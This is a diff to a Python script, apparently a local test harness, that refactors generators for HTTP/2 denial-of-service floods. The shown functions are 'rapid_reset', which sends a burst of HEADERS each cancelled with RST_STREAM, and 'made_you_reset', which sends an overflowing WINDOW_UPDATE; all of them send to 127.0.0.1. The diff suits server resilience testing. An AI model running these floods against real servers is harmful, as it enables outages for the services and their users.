@@ -281,12 +281,14 @@ def hpack_get(path):
     return bytes([0x82, 0x86]) + lit(0x04, path) + lit(0x01, "127.0.0.1")
 
 
+def streams_then(port, n, after):
+    """n GET streams, each followed at once by the frame after(sid)."""
+    return send_flood(port, b"".join(frame(1, 0x5, sid, hpack_get("/")) + after(sid)
+                                     for sid in range(1, 2 * n, 2)))
+
+
 def rapid_reset(port, n):
-    payload = b""
-    for k in range(n):
-        sid = 1 + 2 * k
-        payload += frame(1, 0x5, sid, hpack_get("/")) + frame(3, 0, sid, (8).to_bytes(4, "big"))
-    return send_flood(port, payload)
+    return streams_then(port, n, lambda sid: frame(3, 0, sid, (8).to_bytes(4, "big")))   # RST_STREAM CANCEL
 
 
 def continuation(port, n):
@@ -422,12 +424,8 @@ def send_flood(port, payload):
 
 
 def made_you_reset(port, n):
-    payload = b""
-    for k in range(n):
-        sid = 1 + 2 * k
-        # a window past 2^31-1: a stream error (FLOW_CONTROL_ERROR), not the connection's
-        payload += frame(1, 0x5, sid, hpack_get("/")) + frame(8, 0, sid, (0x7fffffff).to_bytes(4, "big"))
-    return send_flood(port, payload)
+    # a window past 2^31-1: a stream error (FLOW_CONTROL_ERROR), not the connection's
+    return streams_then(port, n, lambda sid: frame(8, 0, sid, (0x7fffffff).to_bytes(4, "big")))
 
 
 def empty_data(port, n):
